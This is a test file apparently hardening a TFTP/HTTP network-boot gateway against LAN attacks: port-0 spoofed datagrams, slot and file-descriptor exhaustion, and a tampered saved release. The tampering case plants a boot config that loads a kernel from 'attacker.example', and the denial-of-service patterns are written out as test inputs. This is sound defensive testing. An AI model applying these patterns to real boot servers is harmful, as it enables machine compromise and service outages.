// `icboot gateway` as an attacker on the LAN meets it, as a process: datagrams
// from port 0, a stalled canister, a tampered saved release, running out of
// file descriptors, dropped HTTP downloads; and the reading commands against a
// flaky canister. Attacks on the TFTP protocol alone (malformed datagrams, slot
// exhaustion) are tested in gateway/tftp/server.test.ts.
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ERR, OP, ack, request } from '../gateway/tftp/packet.ts';
import { attack, loopbackAddresses, rawUdp } from '../lab/attackers.ts';
import { cliEnv, icboot, type CliEnv } from '../lab/cli.ts';
import { freePort, startDevnetProcess, tempDir, type RunningDevnet } from '../lab/devnet.ts';
import { RawClient, run, startGateway, type RunningGateway } from '../lab/gateway.ts';
import { PollTimeout, until as poll } from '../lab/poll.ts';
import { faultyProxy } from './helpers/faulty_proxy.ts';

const MiB = 1024 * 1024;
const sha256hex = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');

/** Polls `cond` until it holds; past the deadline, fails with `what` and the last lines of `logs`. Other errors pass unchanged. */
async function until(what: string, cond: () => boolean | Promise<boolean>, logs: string[] = [], ms = 20_000): Promise<void> {
  await poll(cond, what, ms).catch((e: unknown) => {
    if (!(e instanceof PollTimeout)) throw e;
    throw new PollTimeout(`${e.message}; last log lines:\n${logs.slice(-15).join('\n')}`);
  });
}

const alive = (gw: RunningGateway): boolean => gw.process.exitCode === null && gw.process.signalCode === null;

describe('gateway hardening', () => {
  let devnet: RunningDevnet;
  let devnetPort: number;
  let env: CliEnv;
  let canisterId: string;
  const tree = tempDir('hardtree');
  const out = tempDir('hardout');
  const big = randomBytes(16 * MiB + 123);
  const small = Buffer.from('icboot hardening test\n');
  const medium = randomBytes(4 * MiB + 5);
  const tftpUrl = (gw: RunningGateway, name: string): string => `tftp://127.0.0.1:${gw.tftpPort}/${name}`;
  const curl = async (url: string): Promise<Buffer | null> => {
    const to = join(out, `f${Math.random()}`);
    const r = await run('curl', ['-sS', '--max-time', '20', '-o', to, url]);
    const data = r.code === 0 ? readFileSync(to) : null;
    rmSync(to, { force: true });
    return data;
  };
  const waitWarm = (gw: RunningGateway): Promise<void> => until('cache warm', () => gw.logs.some((l) => /cache: release \d+ warm/.test(l)), gw.logs, 60_000);

  before(async () => {
    assert.equal((await run('python3', ['--version'])).code, 0, 'python3 is missing: apt-get install python3');
    writeFileSync(join(tree, 'version.info'), small);
    writeFileSync(join(tree, 'big.bin'), big);
    writeFileSync(join(tree, 'medium.bin'), medium);
    writeFileSync(join(tree, 'café.txt'), 'non-ASCII name\n');
    writeFileSync(join(tree, 'linux'), randomBytes(3000));
    mkdirSync(join(tree, 'pxelinux.cfg'));
    writeFileSync(join(tree, 'pxelinux.cfg', 'default'), 'DEFAULT linux\nLABEL linux\n KERNEL linux\n');
    devnetPort = await freePort();
    devnet = await startDevnetProcess(undefined, devnetPort);
    env = cliEnv(devnet.url);
    const d = await icboot(['deploy'], env);
    assert.equal(d.code, 0, d.stderr);
    canisterId = d.stdout.toString().trim();
    const up = await icboot(['upload', tree], env);
    assert.equal(up.code, 0, up.stderr);
  });

  after(async () => {
    await devnet?.stop();
    for (const d of [tree, out, devnet?.stateDir, env?.cwd]) if (d) rmSync(d, { recursive: true, force: true });
  });

  it('drops datagrams from port 0 to the listener, as an RRQ, and to a live transfer, and keeps serving', async () => {
    const gw = await startGateway(env, []);
    const owner = await new RawClient().open();
    try {
      owner.send(request(OP.RRQ, 'big.bin', 'octet'), gw.tftpPort);
      await owner.waitFor(1);
      const tid = owner.received[0].port;
      await rawUdp([
        { sourcePort: 0, port: gw.tftpPort, payload: Buffer.from([0, 9]) },
        { sourcePort: 0, port: gw.tftpPort, payload: request(OP.RRQ, 'version.info', 'octet') },
        { sourcePort: 0, port: tid, payload: ack(1) },
      ]);
      // The transfer's stranger socket handles datagrams in order: an answer to this one means the port-0 one was handled.
      const stranger = await new RawClient().open();
      stranger.send(ack(1), tid);
      await stranger.waitFor(1);
      assert.equal((stranger.received[0]?.packet as { code?: number } | null)?.code, ERR.UNKNOWN_TID);
      stranger.close();
      assert.deepEqual(await curl(tftpUrl(gw, 'version.info')), small);
      assert.ok(alive(gw), 'the gateway is still running');
      assert.ok(gw.logs.some((l) => /tftp: dropped a packet from 127\.0\.0\.1:0: no reply can go to that address and port/.test(l)));
    } finally {
      owner.close();
      await gw.stop();
    }
  });

  it('frees the slots of transfers waiting on a stalled canister, and serves cached files meanwhile', async () => {
    const proxy = await faultyProxy(devnet.url);
    const gw = await startGateway(env, ['--network', proxy.url, '--canister', canisterId,
      '--fetch-timeout', '2', '--max-transfers', '16', '--no-prefetch', '--poll', '1']);
    let stopAttack = (): void => {};
    try {
      assert.deepEqual(await curl(tftpUrl(gw, 'version.info')), small, 'cached before the stall');
      proxy.mode('stall');
      // 16 clients from 16 addresses take every slot for a file that is not cached.
      const a = await attack({ port: gw.tftpPort, file: 'big.bin', addresses: loopbackAddresses(16, 10, 4), perAddress: 1 });
      stopAttack = () => a.stop();
      await until('the canister asked', () => proxy.held > 0, gw.logs);
      const failed = (): number => gw.logs.filter((l) => /tftp 127\.0\.4\.\d+:\d+ big\.bin .* error 0: .*no answer within 2 s/.test(l)).length;
      await until('all 16 transfers ended by the fetch bound', () => failed() === 16, gw.logs);
      assert.deepEqual(await curl(tftpUrl(gw, 'version.info')), small, 'a cached file is served while the canister hangs');
      await until('the release poll fails by the same bound', () => gw.logs.some((l) => /release: poll failed, still serving release \d+: .*no answer within 2 s/.test(l)), gw.logs);
      assert.ok(proxy.held > 0, 'the canister is still stalled');
    } finally {
      stopAttack();
      await gw.stop();
      await proxy.close();
    }
  });

  it('verifies the saved release on every load, serves it offline, and discards one that was tampered with', async () => {
    const cache = tempDir('hardcache');
    const saved = join(cache, 'release.json');
    const offline = ['--network', `http://127.0.0.1:${await freePort()}`, '--canister', canisterId, '--cache-dir', cache];
    try {
      let gw = await startGateway(env, ['--cache-dir', cache]);
      await waitWarm(gw);
      await gw.stop();
      const good = readFileSync(saved, 'utf8');

      gw = await startGateway(env, offline);
      assert.ok(gw.logs.some((l) => /serving release \d+ saved by an earlier run, verified again against its certificate, which is \d+ s old/.test(l)), gw.logs.join('\n'));
      assert.deepEqual(await curl(tftpUrl(gw, 'version.info')), small);
      await gw.stop();

      // An attack end to end, and a broken certificate; gateway/release.test.ts covers every other way of editing the file.
      const evil = Buffer.from('DEFAULT evil\nLABEL evil\n KERNEL http://attacker.example/vmlinuz\n');
      mkdirSync(join(cache, 'chunks', sha256hex(evil).slice(0, 2)), { recursive: true });
      writeFileSync(join(cache, 'chunks', sha256hex(evil).slice(0, 2), sha256hex(evil)), evil);
      type Entry = { path: string; size: number; sha256: string; chunks: string[] };
      const edit = (change: (doc: Record<string, string>) => void): string => {
        const doc = JSON.parse(good) as Record<string, string>;
        change(doc);
        return JSON.stringify(doc);
      };
      /** Changes the JSON document held base64-encoded in `field`. */
      const editInside = <T>(field: 'manifest' | 'index', change: (inner: T) => void): string => edit((doc) => {
        const inner = JSON.parse(Buffer.from(doc[field], 'base64').toString()) as T;
        change(inner);
        doc[field] = Buffer.from(JSON.stringify(inner)).toString('base64');
      });
      const cases: [string, string, RegExp][] = [
        ['config pointed at a planted chunk', editInside<{ files: Entry[] }>('manifest', (m) => {
          Object.assign(m.files.find((x) => x.path === 'pxelinux.cfg/default')!, { size: evil.length, sha256: sha256hex(evil), chunks: [sha256hex(evil)] });
        }), /manifest of release \d+ does not match its certified hash/],
        ['certificate cut short', edit((doc) => {
          doc.certificate = doc.certificate.slice(0, 200);
        }), /certificate verification failed/],
      ];
      for (const [name, text, why] of cases) {
        writeFileSync(saved, text);
        // With the canister unreachable there is then nothing verified to serve: the gateway says so and exits.
        await assert.rejects(startGateway(env, offline), (e: Error) => {
          assert.match(e.message, /integrity: saved release .*release\.json failed verification \(.*\); discarded/, name);
          assert.match(e.message, why, name);
          assert.doesNotMatch(e.message, /serving release/, name);
          return true;
        });
        assert.ok(!existsSync(saved), `${name}: discarded`);
      }
      // A corrupt file never stops a gateway that can reach the canister; the file is written anew.
      writeFileSync(saved, '{not json');
      gw = await startGateway(env, ['--cache-dir', cache]);
      assert.deepEqual(await curl(tftpUrl(gw, 'version.info')), small);
      await gw.stop();
      assert.equal(JSON.parse(readFileSync(saved, 'utf8')).format, 'icboot-saved-release/1');
    } finally {
      rmSync(cache, { recursive: true, force: true });
    }
  });

  it('caps HTTP connections, and refuses TFTP transfers with a log line while out of file descriptors, then recovers', async () => {
    const hold = (port: number, n: number): Socket[] => Array.from({ length: n }, () => connect(port, '127.0.0.1').on('error', () => {}));
    const limit = ['prlimit', '--nofile=256:256', '--'];
    // With the cap, 400 idle connections cannot use up the gateway's 256 descriptors: TFTP goes on.
    let gw = await startGateway(env, ['--max-http-connections', '64'], limit);
    let held: Socket[] = [];
    try {
      held = hold(Number(new URL(gw.httpUrl).port), 400);
      await until('connections refused', () => gw.logs.some((l) => /http: refused a connection from 127\.0\.0\.1: 64 connections open/.test(l)), gw.logs);
      assert.deepEqual(await curl(tftpUrl(gw, 'version.info')), small);
    } finally {
      for (const s of held) s.destroy();
      await gw.stop();
    }
    // Without it, they do; a TFTP request then finds no descriptor for its socket.
    gw = await startGateway(env, ['--max-http-connections', '100000'], limit);
    const pid = gw.process.pid!;
    try {
      await waitWarm(gw);
      held = hold(Number(new URL(gw.httpUrl).port), 400);
      await until('descriptors used up', () => readdirSync(`/proc/${pid}/fd`).length >= 250, gw.logs);
      const c = await new RawClient().open();
      c.send(request(OP.RRQ, 'version.info', 'octet'), gw.tftpPort);
      await c.waitFor(1);
      assert.match((c.received[0]?.packet as { message?: string } | null)?.message ?? '', /server busy/);
      c.close();
      assert.ok(gw.logs.some((l) => /tftp: out of file descriptors \(EMFILE\); refusing new transfers until some close/.test(l)), gw.logs.join('\n'));
      assert.ok(alive(gw), 'the gateway is still running');
      for (const s of held) s.destroy();
      let data: Buffer | null = null;
      await until('serving again', async () => (data = await curl(tftpUrl(gw, 'version.info'))) !== null, gw.logs);
      assert.deepEqual(data, small);
    } finally {
      for (const s of held) s.destroy();
      await gw.stop();
    }
  });

  it('logs an HTTP download the client dropped, and reads names the same way over HTTP and TFTP', async () => {
    const gw = await startGateway(env, []);
    try {
      await waitWarm(gw);
      assert.deepEqual(Buffer.from(await (await fetch(`${gw.httpUrl}//version.info`)).arrayBuffer()), small, '// over HTTP');
      assert.deepEqual(await curl(tftpUrl(gw, '/version.info')), small, '// over TFTP');
      const cafe = Buffer.from('non-ASCII name\n');
      assert.deepEqual(Buffer.from(await (await fetch(`${gw.httpUrl}/caf%C3%A9.txt`)).arrayBuffer()), cafe, 'UTF-8 name over HTTP');
      assert.deepEqual(await curl(tftpUrl(gw, 'caf%C3%A9.txt')), cafe, 'UTF-8 name over TFTP');

      // A client that asks for 16 MiB and stops reading: the server blocks on back-pressure, then the client leaves.
      const port = Number(new URL(gw.httpUrl).port);
      const s = connect(port, '127.0.0.1');
      await new Promise((r) => s.once('connect', r));
      s.pause();
      s.write('GET /big.bin HTTP/1.1\r\nHost: gateway\r\n\r\n');
      const local = s.localPort!;
      const me = `0100007F:${local.toString(16).toUpperCase().padStart(4, '0')}`;
      /** Bytes the server's end of this connection has queued to send (/proc/net/tcp: sl, local, remote, state, tx:rx). */
      const queued = (): number => {
        const row = readFileSync('/proc/net/tcp', 'utf8').split('\n').map((l) => l.trim().split(/\s+/)).find((f) => f[2] === me);
        return row ? parseInt(row[4].split(':')[0], 16) : 0;
      };
      let last = -1;
      await until('the send path full', () => {
        const now = queued();
        const full = now > MiB && now === last;
        last = now;
        return full;
      });
      s.destroy();
      await until('the abort logged', () => gw.logs.some((l) => /http 127\.0\.0\.1:\d+ GET big\.bin 200 \d+ bytes .* aborted: client went away/.test(l)), gw.logs);
    } finally {
      await gw.stop();
    }
  });

  it('cat and ls retry a flaky canister; cat writes the whole verified file or nothing', async () => {
    // 3 failures in a row outlast the agent's own 2 retries: without retries of their own, both commands fail.
    const proxy = await faultyProxy(devnet.url);
    proxy.mode({ failQueries: 3, ofEvery: 5 });
    const through = ['--network', proxy.url, '--canister', canisterId];
    try {
      const r = await icboot(['cat', 'medium.bin', ...through], env);
      assert.equal(r.code, 0, r.stderr);
      assert.ok(r.stdout.equals(medium), 'byte-identical');
      const ls = await icboot(['ls', ...through], env);
      assert.equal(ls.code, 0, ls.stderr);
      assert.match(ls.stdout.toString(), /^medium\.bin$/m);
      assert.ok(proxy.failed >= 6, `${proxy.failed} queries failed`);
    } finally {
      await proxy.close();
    }
    await devnet.stop();
    try {
      // The file's last chunk comes back corrupted: cat fails having written nothing.
      devnet = await startDevnetProcess(devnet.stateDir, devnetPort, ['--corrupt-chunk', sha256hex(medium.subarray(4 * MiB))]);
      const r = await icboot(['cat', 'medium.bin'], env);
      assert.equal(r.code, 1);
      assert.equal(r.stdout.length, 0, 'nothing written');
      assert.match(r.stderr, /^icboot: chunk [0-9a-f]{64} does not match its hash\n$/);
    } finally {
      await devnet.stop();
      devnet = await startDevnetProcess(devnet.stateDir, devnetPort);
    }
  });
});
